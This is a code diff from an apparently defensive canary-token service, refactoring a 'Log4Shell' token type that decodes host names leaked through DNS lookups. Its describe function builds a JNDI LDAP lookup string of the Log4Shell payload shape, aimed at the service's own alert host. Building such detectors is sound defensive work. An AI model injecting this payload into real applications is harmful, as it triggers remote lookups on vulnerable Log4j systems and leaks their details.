@@ -2,17 +2,16 @@
 //! Log4j expands `${hostName}` and looks the name up; the label after the leading `x` is the
 //! host's name. Lookups that carry no host name (scanners, resolvers) are kept but not alerted.
 
-use serde_json::{json, Map, Value};
+use serde_json::{Map, Value};
 
-use super::{gif_answer, needs_dns_field, renders, Created, DnsData, DnsEncoding, Kind, Params, Site, Uploads};
-use crate::error::CoreResult;
+use super::{gif_answer, needs_dns_field, no_params, renders, DnsData, DnsEncoding, Kind, Site};
 use crate::model::{Channel, Judgement, NewHit, Token};
 
 pub static KIND: Kind = Kind {
     name: "log4shell",
     human_name: "Log4Shell",
     channel: Channel::Dns,
-    create,
+    create: no_params,
     describe,
     artefact: None,
     dns_encoding: Some(DnsEncoding { rank: 4, decode }),
@@ -21,10 +20,6 @@ pub static KIND: Kind = Kind {
 };
 
 const FIELD: &str = "log4shell_hostname";
-
-fn create(_params: &Params, _uploads: &Uploads) -> CoreResult<Created> {
-    Ok(Created::params(json!({})))
-}
 
 fn describe(token: &Token, site: &Site, out: &mut Map<String, Value>) {
     renders(out, KIND.name, format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id)));
@@ -38,11 +33,7 @@ fn decode(labels: &[String]) -> DnsData {
     }
     let joined = host.join(".");
     match joined.strip_prefix('x').or_else(|| joined.strip_prefix('X')) {
-        Some(name) if !name.is_empty() => {
-            let mut m = Map::new();
-            m.insert(FIELD.into(), Value::String(name.to_string()));
-            DnsData::Decoded(m)
-        }
+        Some(name) if !name.is_empty() => DnsData::field(FIELD, name),
         _ => DnsData::Undecodable,
     }
 }
@@ -54,10 +45,7 @@ fn judge(_token: &Token, hit: &NewHit) -> Judgement {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    fn labels(s: &str) -> Vec<String> {
-        s.split('.').map(str::to_string).collect()
-    }
+    use crate::kinds::testing::labels;
 
     #[test]
     fn decodes_the_host_name() {
